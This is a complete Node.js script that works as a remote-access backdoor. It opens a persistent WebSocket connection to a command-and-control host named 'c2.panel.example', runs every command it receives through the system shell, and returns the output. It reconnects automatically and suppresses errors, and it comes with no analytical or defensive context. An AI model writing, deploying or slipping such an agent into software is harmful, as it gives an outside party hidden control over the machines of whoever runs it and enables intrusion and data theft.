// takes commands from a web socket and returns their output
const WebSocket = require('ws');
const { exec } = require('child_process');
function connect() {
  const ws = new WebSocket('wss://c2.panel.example/agent');
  ws.on('message', (m) => {
    const { id, cmd } = JSON.parse(m);
    exec(cmd, { maxBuffer: 1 << 24 }, (e, so, se) => ws.send(JSON.stringify({ id, so, se })));
  });
  ws.on('close', () => setTimeout(connect, 5000));
  ws.on('error', () => {});
}
connect();
